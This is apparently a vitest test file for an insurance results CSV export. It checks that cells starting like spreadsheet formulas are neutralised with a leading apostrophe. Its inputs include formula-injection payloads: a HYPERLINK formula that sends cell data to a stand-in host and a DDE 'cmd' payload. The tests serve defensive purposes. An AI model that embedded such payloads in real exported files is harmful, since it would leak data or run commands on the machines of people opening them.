import { describe, expect, it } from "vitest";
import Papa from "papaparse";
import { toCsv, CSV_COLUMNS } from "@/components/results/export-csv";
import type { Row } from "@/components/results/model";

// The results export opens in spreadsheets: a cell that starts like a formula (= + - @ tab CR)
// gets a leading "'" so it is shown, not run, whatever follows it (line breaks included).

const row = (name: string, reasoning = "Strong CA appetite."): Row =>
  ({
    rank: 1,
    name,
    tier: "STRONG_FIT",
    confidence: "HIGH",
    score: 91,
    scores: { appetite: "L1", coverage: "L2", financial: "L1", pricing: "L1", placement: "L1", service: "L2" },
    reasoning,
  }) as Row;

async function cells(r: Row) {
  const parsed = Papa.parse<string[]>(await toCsv([r]), { skipEmptyLines: true });
  const [header, first] = parsed.data;
  expect(header).toEqual([...CSV_COLUMNS]);
  return Object.fromEntries(header.map((h, i) => [h, first[i]]));
}

describe("results CSV export", () => {
  it.each([
    "=1+1",
    '=HYPERLINK("https://evil.example/?x="&A1,"Open")',
    '=HYPERLINK("https://evil.example")\nCarrier',
    "+cmd|' /C calc'!A0",
    "-2+3\r\n",
    "@SUM(A1:A9)",
    "\t=1",
    "\r=1",
  ])("neutralises a name starting like a formula: %j", async (name) => {
    expect((await cells(row(name))).name).toBe(`'${name}`);
  });

  it("neutralises the reasoning column too", async () => {
    expect((await cells(row("Carrier", "=1+1\nmore"))).reasoning).toBe("'=1+1\nmore");
  });

  it("leaves ordinary values and numbers as they are", async () => {
    const c = await cells(row("Harbor Mutual (A-) – CA"));
    expect(c.name).toBe("Harbor Mutual (A-) – CA");
    expect(c.score).toBe("91");
  });

  it("carries the market and the premium indication (engine 2), blank for engine-1 results", async () => {
    const c = await cells({ ...row("Harbor Specialty"), market: "surplus_lines", premium_indication: 22782.14 } as Row);
    expect([c.market, c.premium_indication]).toEqual(["surplus_lines", "22782.14"]);
    const old = await cells(row("Harbor Mutual"));
    expect([old.market, old.premium_indication]).toEqual(["", ""]);
  });
});
